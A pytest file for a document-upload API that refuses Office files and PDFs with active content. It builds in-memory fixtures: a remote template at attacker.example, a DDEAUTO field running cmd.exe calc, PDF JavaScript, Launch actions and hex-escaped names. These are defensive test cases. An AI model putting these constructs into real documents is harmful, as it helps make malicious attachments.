"""Evidence files that would run or fetch something when opened are refused, with the reason in plain
words: Office files with links that load by themselves, embedded objects, ActiveX or automatic
fields; PDFs with JavaScript, launch or open actions, or attached files (however their names are
spelt, and inside packed object streams). Honest files with the same look (a clicked web link, a
chart's own data, an open-at-page-one view) still go through. Every file is built in memory."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session
from weasyprint import HTML, Attachment

from tests.assessments import test_consensus_pages as consensus_pages
from tests.assessments import test_evidence_api as evidence_api
from tests.assessments.helpers import Board
from tests.assessments.test_evidence_api import (
    DOCX_CONTENT_TYPES,
    docx_bytes,
    fields,
    stored_evidence,
    stored_files,
    upload,
    xlsx_bytes,
    zip_bytes,
)
from tests.factories import sign_in

# The evidence API's board (RCF's chair and secretary), its open assessment and first criterion.
board = evidence_api.board
aid = evidence_api.aid
key = evidence_api.key

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- Office files -------------------------------------------------------------------------------------


def rels(*relationships: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'


def relationship(kind: str, target: str, mode: str | None = None, rid: str = "rId9") -> str:
    target_mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="{rid}" Type="{REL_TYPE}/{kind}" Target="{target}"{target_mode}/>'


def docx_with_rels(*relationships: str) -> bytes:
    return docx_bytes({"word/_rels/document.xml.rels": rels(*relationships)})


def docx_with_field(instruction: str) -> bytes:
    document = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )
    return docx_bytes({"word/document.xml": document})


def xlsx_with(extra: dict[str, bytes | str]) -> bytes:
    archive = io.BytesIO(xlsx_bytes())
    with zipfile.ZipFile(archive, "a") as workbook:
        for name, content in extra.items():
            workbook.writestr(name, content)
    return archive.getvalue()


def xlsx_with_web_link() -> bytes:
    """A workbook openpyxl writes with a clickable link: an external hyperlink relationship."""
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "WRES report"
    workbook.active["A1"].hyperlink = "https://www.england.nhs.uk/about/equality/equality-hub/wres/"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx_with_chart_workbook(workbook: bytes) -> bytes:
    return docx_bytes(
        {
            "word/charts/chart1.xml": "<c:chartSpace/>",
            "word/charts/_rels/chart1.xml.rels": rels(relationship("package", "../embeddings/Book1.xlsx")),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook,
        }
    )


EXTERNAL = "loads content from outside itself"
EMBEDDED = "has another file or object embedded in it"
ACTIVEX = "ActiveX controls"
FIELDS = "a DDE or INCLUDE field"
MACROS = "contains macros"

REFUSED_OFFICE: dict[str, tuple[Callable[[], bytes], str]] = {
    "remote template": (
        lambda: docx_bytes(
            {
                "word/_rels/settings.xml.rels": rels(
                    relationship("attachedTemplate", "https://attacker.example/t.dotm", "External")
                )
            }
        ),
        EXTERNAL,
    ),
    "picture loaded from a share": (
        lambda: docx_with_rels(relationship("image", "file://///attacker.example/share/p.png", "External")),
        EXTERNAL,
    ),
    "target mode spelt with a character reference": (
        lambda: docx_with_rels(relationship("image", "https://attacker.example/p.png", "&#69;xternal")),
        EXTERNAL,
    ),
    "hyperlink to a file share": (
        lambda: docx_with_rels(relationship("hyperlink", "\\\\attacker.example\\share\\x.lnk", "External")),
        EXTERNAL,
    ),
    "workbook linked to another workbook": (
        lambda: xlsx_with({"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
        EXTERNAL,
    ),
    "OLE object": (lambda: docx_bytes({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"}), EMBEDDED),
    "embedded program": (lambda: docx_bytes({"word/embeddings/setup.exe": b"MZ\x90\x00"}), EMBEDDED),
    "OLE relationship": (lambda: docx_with_rels(relationship("oleObject", "../x/object.bin")), EMBEDDED),
    "ActiveX control": (
        lambda: docx_bytes({"word/activeX/activeX1.xml": "<ax:ocx/>", "word/activeX/activeX1.bin": b"\x00"}),
        ACTIVEX,
    ),
    "ActiveX relationship": (lambda: docx_with_rels(relationship("control", "activeX1.xml")), ACTIVEX),
    "DDE field": (
        lambda: docx_with_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
        FIELDS,
    ),
    "INCLUDEPICTURE field": (
        lambda: docx_with_field(' INCLUDEPICTURE "https://attacker.example/p.png" \\d '),
        FIELDS,
    ),
    "chart workbook with macros": (
        lambda: docx_with_chart_workbook(xlsx_with({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        MACROS,
    ),
    "chart workbook with its own OLE object": (
        lambda: docx_with_chart_workbook(xlsx_with({"xl/embeddings/oleObject1.bin": b"\xd0\xcf"})),
        EMBEDDED,
    ),
}


@pytest.mark.parametrize("case", REFUSED_OFFICE)
def test_office_file_with_active_content_answers_422_saying_why(
    board: Board, aid: int, key: str, case: str
) -> None:
    build, reason = REFUSED_OFFICE[case]
    response = upload(board, board.chair, aid, key, build(), "board paper.docx")

    assert response.status_code == 422, response.text
    assert fields(response) == ["file"]
    assert reason in response.json()["detail"][0]["msg"]
    assert stored_evidence(board.engine) == [] and stored_files(board.engine) == []


ACCEPTED_OFFICE: dict[str, Callable[[], bytes]] = {
    "web link in a document": lambda: docx_with_rels(
        relationship("hyperlink", "https://www.nhsproviders.org/race-2-0", "External"),
        relationship("hyperlink", "mailto:secretary@airedale.example", "External", rid="rId10"),
    ),
    "web link in a workbook": xlsx_with_web_link,
    "chart with its own workbook": lambda: docx_with_chart_workbook(xlsx_bytes()),
    "ordinary fields": lambda: docx_with_field(" PAGE \\* MERGEFORMAT "),
}


@pytest.mark.parametrize("case", ACCEPTED_OFFICE)
def test_office_file_with_only_passive_content_is_accepted(
    board: Board, aid: int, key: str, case: str
) -> None:
    response = upload(board, board.chair, aid, key, ACCEPTED_OFFICE[case](), "board paper.docx")

    assert response.status_code == 201, response.text


def test_macro_refusal_still_names_macros_when_other_content_is_there_too(
    board: Board, aid: int, key: str
) -> None:
    content_types = DOCX_CONTENT_TYPES.replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    )
    data = zip_bytes(
        {
            "[Content_Types].xml": content_types,
            "word/document.xml": "<w:document/>",
            "word/activeX/activeX1.xml": "<ax:ocx/>",
        }
    )
    response = upload(board, board.chair, aid, key, data, "plan.docx")
    assert MACROS in response.json()["detail"][0]["msg"]


# --- PDFs -------------------------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    for number, content in enumerate(objects, start=1):
        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    return body + b"trailer\n" + trailer + b"\n%%EOF\n"


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + f" /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def object_stream(text: bytes, filters: bytes = b"/Filter /FlateDecode", compress: bool = True) -> bytes:
    """Object 4 (the text) packed in an object stream, as PDF 1.5 writers pack most objects."""
    header = b"4 0 "
    data = header + text
    return stream(
        f"/Type /ObjStm /N 1 /First {len(header)} ".encode() + filters,
        zlib.compress(data) if compress else data,
    )


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def catalog_with(entries: bytes) -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>", PAGES, PAGE)


SCRIPT = "contains JavaScript"
LAUNCH = "starts another program"
OPEN_ACTION = "runs an action as soon as it is opened"
ATTACHMENT = "has files attached inside it"
UNCHECKABLE = "could not be checked"

REFUSED_PDF: dict[str, tuple[Callable[[], bytes], str]] = {
    "script run on opening": (
        lambda: catalog_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        OPEN_ACTION,
    ),
    "script in a page action": (
        lambda: pdf(CATALOG, PAGES, b"<< /Type /Page /AA << /O << /S /JavaScript /JS 5 0 R >> >> >>"),
        SCRIPT,
    ),
    "script name spelt with hex escapes": (
        lambda: pdf(CATALOG, PAGES, b"<< /Type /Page /AA << /O << /S /J#61va#53cript /J#53 (x) >> >> >>"),
        SCRIPT,
    ),
    "document-level scripts": (lambda: catalog_with(b"/Names << /JavaScript 4 0 R >>"), SCRIPT),
    "launch action": (
        lambda: pdf(CATALOG, PAGES, b"<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>"),
        LAUNCH,
    ),
    "open action pointing at an action object": (lambda: catalog_with(b"/OpenAction 4 0 R"), OPEN_ACTION),
    "attached files": (lambda: catalog_with(b"/Names << /EmbeddedFiles 4 0 R >>"), ATTACHMENT),
    "attached file stream": (
        lambda: pdf(CATALOG, PAGES, PAGE, stream(b"/Type /EmbeddedFile /Subtype /text#2Fplain", b"hi")),
        ATTACHMENT,
    ),
    "interactive XFA form": (lambda: catalog_with(b"/AcroForm << /XFA 4 0 R >>"), "(XFA) form"),
    "script inside a compressed object stream": (
        lambda: pdf(CATALOG, PAGES, PAGE, object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        SCRIPT,
    ),
    "launch inside an uncompressed object stream": (
        lambda: pdf(CATALOG, PAGES, PAGE, object_stream(b"<< /S /Launch /F (x.exe) >>", b"", False)),
        LAUNCH,
    ),
    "object stream packed in a way the check cannot unpack": (
        lambda: pdf(CATALOG, PAGES, PAGE, object_stream(b"<< /S /JavaScript >>", b"/Filter /ASCIIHexDecode")),
        UNCHECKABLE,
    ),
    "object stream that is not valid compressed data": (
        lambda: pdf(
            CATALOG, PAGES, PAGE, stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"junk")
        ),
        UNCHECKABLE,
    ),
    "encrypted file with object streams": (
        lambda: pdf(
            CATALOG,
            PAGES,
            PAGE,
            object_stream(b"<< /Type /Font >>"),
            trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>",
        ),
        UNCHECKABLE,
    ),
}


@pytest.mark.parametrize("case", REFUSED_PDF)
def test_pdf_with_active_content_answers_422_saying_why(board: Board, aid: int, key: str, case: str) -> None:
    build, reason = REFUSED_PDF[case]
    response = upload(board, board.chair, aid, key, build(), "board paper.pdf")

    assert response.status_code == 422, response.text
    assert fields(response) == ["file"]
    assert reason in response.json()["detail"][0]["msg"]
    assert stored_evidence(board.engine) == [] and stored_files(board.engine) == []


ACCEPTED_PDF: dict[str, Callable[[], bytes]] = {
    "open at page one": lambda: catalog_with(b"/OpenAction [3 0 R /Fit]"),
    "web links whose addresses hold such words": lambda: pdf(
        CATALOG,
        PAGES,
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/JS/Launch\\) \\(x\\)) >> >>",
    ),
    "picture whose bytes happen to spell the names": lambda: pdf(
        CATALOG,
        PAGES,
        PAGE,
        stream(b"/Type /XObject /Subtype /Image", b"\x00/JavaScript /JS /Launch\xff" * 50),
    ),
    "compressed object stream of ordinary objects": lambda: pdf(
        CATALOG, PAGES, PAGE, object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    ),
    "encrypted file without object streams": lambda: pdf(
        CATALOG, PAGES, PAGE, trailer=b"<< /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>"
    ),
}


@pytest.mark.parametrize("case", ACCEPTED_PDF)
def test_pdf_without_active_content_is_accepted(board: Board, aid: int, key: str, case: str) -> None:
    response = upload(board, board.chair, aid, key, ACCEPTED_PDF[case](), "board paper.pdf")

    assert response.status_code == 201, response.text


def test_pdf_from_a_real_writer_with_object_streams_and_a_link_is_accepted(
    board: Board, aid: int, key: str
) -> None:
    """WeasyPrint (which makes the board report) packs its objects in compressed object streams."""
    data = HTML(
        string='<h1>Race equality plan</h1><p><a href="https://www.nhsproviders.org/race-2-0">Race 2.0</a></p>'
    ).write_pdf()
    assert b"/ObjStm" in data

    response = upload(board, board.chair, aid, key, data, "plan.pdf")

    assert response.status_code == 201, response.text


def test_pdf_from_a_real_writer_with_an_attached_file_answers_422(board: Board, aid: int, key: str) -> None:
    data = HTML(string="<h1>Race equality plan</h1>").write_pdf(
        attachments=[Attachment(string="payload", base_url=".")]
    )

    response = upload(board, board.chair, aid, key, data, "plan.pdf")

    assert response.status_code == 422
    assert ATTACHMENT in response.json()["detail"][0]["msg"]


# --- The page says why, in the error summary ---------------------------------------------------------------


@pytest.fixture
def page_board(db: Session, clean_database: Engine) -> consensus_pages.Board:
    return consensus_pages.build_board(db, clean_database)


def test_page_upload_of_a_pdf_with_javascript_shows_why_in_the_error_summary(
    client: TestClient, page_board: consensus_pages.Board
) -> None:
    criterion = page_board.keys[0]
    sign_in(client, "chair@airedale.example")

    response = consensus_pages.post_form(
        client,
        page_board.section_url,
        f"{page_board.save_url(criterion)}/files",
        {},
        files={"file": ("paper.pdf", catalog_with(b"/Names << /JavaScript 4 0 R >>"), "application/pdf")},
    )

    assert response.status_code == 422
    assert "There is a problem" in response.text
    assert f'href="#{criterion}-file"' in response.text
    assert "The PDF contains JavaScript, which could run when it is opened" in response.text
    assert consensus_pages.evidence_titles(page_board, criterion) == []
